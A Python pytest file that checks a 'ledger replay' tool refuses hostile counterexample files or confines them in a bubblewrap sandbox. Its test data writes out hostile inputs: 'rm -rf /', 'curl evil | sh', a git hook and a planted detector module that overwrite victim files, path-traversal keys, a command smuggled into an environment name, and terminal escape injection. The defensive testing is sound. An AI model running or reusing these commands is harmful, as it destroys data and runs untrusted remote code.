"""`ledger replay` on a file you did not write: refused or contained, never a traceback.

A hostile or broken file exits 2 with one line on stderr and runs nothing; a file that loads
runs inside the sandbox, where nothing outside it can be written. The victim files these tests
guard live both under the test's tmp directory and under /var/tmp (outside the sandbox's
private /tmp, so only the read-only root protects them).
"""

from __future__ import annotations

import json
import pathlib
import shutil
import tempfile
import textwrap
from typing import Any, Callable, Iterator

import pytest

from ledger_cli.main import main
from ledger_properties import sandbox

REPO = pathlib.Path(__file__).resolve().parent.parent
SAMPLE = REPO / "counterexamples" / "z3-stale-reuse-if-opaque-reported-unchanged.json"

needs_bwrap = pytest.mark.skipif(
    not sandbox.available(),
    reason="bubblewrap (bwrap) is not installed or cannot create namespaces here; .ci/run installs it",
)


@pytest.fixture
def victims(tmp_path: pathlib.Path) -> Iterator[list[pathlib.Path]]:
    """Two user files outside any workspace: one under tmp_path, one under /var/tmp."""
    host_dir = pathlib.Path(tempfile.mkdtemp(prefix="ledger-victim-", dir="/var/tmp"))
    paths = [tmp_path / "victim.txt", host_dir / "victim.txt"]
    for path in paths:
        path.write_text("the user's own file\n")
    yield paths
    for path in paths:
        assert path.read_text() == "the user's own file\n", f"{path} was changed"
    assert sorted(p.name for p in host_dir.iterdir()) == ["victim.txt"], "something was written next to the victim"
    shutil.rmtree(host_dir)


@pytest.fixture
def no_leftovers(tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A private temporary directory (other tests run hunts in parallel), empty at the end."""
    private = tmp_path / "tmpdir"
    private.mkdir()
    monkeypatch.setenv("TMPDIR", str(private))
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    yield
    assert list(private.iterdir()) == []


def sample() -> dict[str, Any]:
    return json.loads(SAMPLE.read_text())


def write(tmp_path: pathlib.Path, content: bytes | str | dict[str, Any], name: str = "hostile.json") -> pathlib.Path:
    path = tmp_path / name
    if isinstance(content, dict):
        content = json.dumps(content)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def replay_exit(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(["replay", *args])
    err = capsys.readouterr().err.strip()
    return code, err


def edited(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    document = sample()
    change(document)
    return document


MALFORMED: dict[str, Callable[[pathlib.Path, list[pathlib.Path]], bytes | str | dict[str, Any]]] = {
    "absolute key": lambda t, v: edited(lambda d: d["setup"]["files"].update({str(v[1]): "evil\n"})),
    "dot-dot key": lambda t, v: edited(lambda d: d["setup"]["files"].update({"../../../../" + str(v[0]).lstrip("/"): "evil\n"})),
    "absolute outside key": lambda t, v: edited(lambda d: d["setup"].update(outside={str(v[0]): "evil\n"})),
    "dot-dot outside key": lambda t, v: edited(lambda d: d["setup"].update(outside={"../victim.txt": "evil\n"})),
    "git hook key": lambda t, v: edited(lambda d: d["setup"]["files"].update({".git/hooks/post-commit": f"echo evil > {v[1]}"})),
    "file and directory key": lambda t, v: edited(lambda d: d["setup"]["files"].update({"a.txt/b": "x"})),
    "setup a string": lambda t, v: edited(lambda d: d.update(setup="rm -rf /")),
    "files a list": lambda t, v: edited(lambda d: d["setup"].update(files=["a.txt"])),
    "file text an int": lambda t, v: edited(lambda d: d["setup"]["files"].update({"a.txt": 7})),
    "git a string": lambda t, v: edited(lambda d: d["setup"].update(git="yes")),
    "environment a list": lambda t, v: edited(lambda d: d["setup"].update(environment=["TZ=UTC"])),
    "environment name not a variable": lambda t, v: edited(lambda d: d["setup"].update(environment={"A=B; rm": "x"})),
    "environment value an int": lambda t, v: edited(lambda d: d["setup"].update(environment={"TZ": 0})),
    "environment value with NUL": lambda t, v: edited(lambda d: d["setup"].update(environment={"TZ": "UTC\u0000"})),
    "steps a string": lambda t, v: edited(lambda d: d.update(steps="cat a.txt")),
    "step a bare string": lambda t, v: edited(lambda d: d.update(steps=["cat a.txt"] * 3)),
    "step command an int": lambda t, v: edited(lambda d: d["steps"][0].update(command=3)),
    "exit code a bool": lambda t, v: edited(lambda d: d["violation"]["expected"].update(exit_code=True)),
    "exit code NaN": lambda t, v: json.dumps(sample()).replace('"exit_code": 0', '"exit_code": NaN', 1),
    "violation step out of range": lambda t, v: edited(lambda d: d["violation"].update(step=99)),
    "violation a list": lambda t, v: edited(lambda d: d.update(violation=[2])),
    "wrong schema": lambda t, v: edited(lambda d: d.update(schema="ledger-counterexample/9")),
    "unknown field": lambda t, v: edited(lambda d: d.update(run_first="curl evil | sh")),
    "detector not MODULE:FACTORY": lambda t, v: edited(lambda d: d.update(detector="os.system('x')")),
    "top level a list": lambda t, v: "[1, 2]",
    "truncated JSON": lambda t, v: SAMPLE.read_text()[:200],
    "empty file": lambda t, v: "",
    "non-UTF-8": lambda t, v: b'{"schema": "\xff\xfe"}',
    "nested too deeply": lambda t, v: "[" * 100_000 + "]" * 100_000,
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_or_hostile_file_exits_2_with_one_line_and_runs_nothing(
    case: str,
    tmp_path: pathlib.Path,
    victims: list[pathlib.Path],
    no_leftovers: None,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = write(tmp_path, MALFORMED[case](tmp_path, victims))
    code, err = replay_exit(capsys, str(path), "--unsandboxed")  # even unsandboxed, nothing runs
    assert code == 2, err
    assert err.startswith("ledger replay: ") and "\n" not in err and "Traceback" not in err, err


def test_a_missing_file_or_a_directory_exits_2(tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    for target in (tmp_path / "absent.json", tmp_path):
        code, err = replay_exit(capsys, str(target))
        assert code == 2 and "cannot read" in err and "\n" not in err, err


def test_a_detector_named_by_the_file_is_not_imported_without_trust(
    tmp_path: pathlib.Path, victims: list[pathlib.Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # The module sits in the current directory, where an untrusting replay must not look.
    (tmp_path / "evil_detector.py").write_text(f"open({str(victims[1])!r}, 'w').write('owned')\ndef make(): pass\n")
    monkeypatch.chdir(tmp_path)
    path = write(tmp_path, edited(lambda d: d.update(detector="evil_detector:make")))
    code, err = replay_exit(capsys, str(path), "--unsandboxed")
    assert code == 2 and "--trust-detector" in err and "\n" not in err, err


def test_an_untrusting_replay_never_searches_the_current_directory(
    tmp_path: pathlib.Path, victims: list[pathlib.Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "evil_detector.py").write_text(f"open({str(victims[1])!r}, 'w').write('owned')\ndef make(): pass\n")
    monkeypatch.chdir(tmp_path)
    path = write(tmp_path, edited(lambda d: d.update(detector="evil_detector:make")))
    code, err = replay_exit(capsys, str(path), "--trust-detector", "--unsandboxed")  # trusted, but no --path
    assert code == 2 and "evil_detector" in err and "not found" in err, err


def test_without_a_sandbox_replay_refuses_unless_told(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sandbox, "available", lambda: False)
    code, err = replay_exit(capsys, str(SAMPLE))
    assert code == 2 and "--unsandboxed" in err and "\n" not in err, err
    code, _ = replay_exit(capsys, str(SAMPLE), "--unsandboxed")
    assert code == 1  # the stale read reproduces, run directly


def _steps_writing_to(victims: list[pathlib.Path]) -> list[dict[str, str]]:
    commands = [f"echo evil > {victim}" for victim in victims]
    commands += [
        f"ln -s {victims[1].parent} link && echo evil > link/victim.txt",  # a symlinked parent
        f"echo evil > @ROOT@/../../{victims[0].name}",
        "cat a.txt",
    ]
    return [{"command": command} for command in commands]


@needs_bwrap
def test_steps_run_in_the_sandbox_and_change_nothing_outside(
    tmp_path: pathlib.Path, victims: list[pathlib.Path], no_leftovers: None, capsys: pytest.CaptureFixture[str]
) -> None:
    steps = _steps_writing_to(victims)
    document = edited(lambda d: d.update(steps=steps, violation={**d["violation"], "step": len(steps)}))  # the last, counted from 1
    code, err = replay_exit(capsys, str(write(tmp_path, document)))
    out = capsys.readouterr().out
    assert code == 0, err + out  # ran (not refused), and the recorded stale read did not happen


@needs_bwrap
def test_a_trusted_detector_is_imported_inside_the_sandbox(
    tmp_path: pathlib.Path, victims: list[pathlib.Path], capfd: pytest.CaptureFixture[str]
) -> None:
    module_dir = tmp_path / "mods"
    module_dir.mkdir()
    (module_dir / "user_detector.py").write_text(textwrap.dedent(f"""
        import sys
        try:
            open({str(victims[1])!r}, "w").write("owned")
        except OSError as error:
            print("write refused:", error.strerror, file=sys.stderr)
        from ledger_impl.detectors.unsound import optimistic_rules as make
    """))
    path = write(tmp_path, edited(lambda d: d.update(detector="user_detector:make")))
    code = main(["replay", str(path), "--trust-detector", "--path", str(module_dir)])
    captured = capfd.readouterr()
    assert code == 1, captured.err  # the detector is the recorded one's twin: the stale read reproduces
    assert "write refused: Read-only file system" in captured.err


@needs_bwrap
def test_terminal_control_characters_in_the_file_are_shown_escaped(
    tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def hostile(d: dict[str, Any]) -> None:
        d["explanation"] = "retitles \x1b]0;owned\x07 and clears \x1b[2J the terminal"
        d["steps"][0]["command"] = "cat a.txt; printf '\\033[2J'"

    code = main(["replay", str(write(tmp_path, edited(hostile)))])
    out, err = capsys.readouterr()
    assert code in (0, 1), err
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]0;owned\\x07" in out.replace("\n", "")
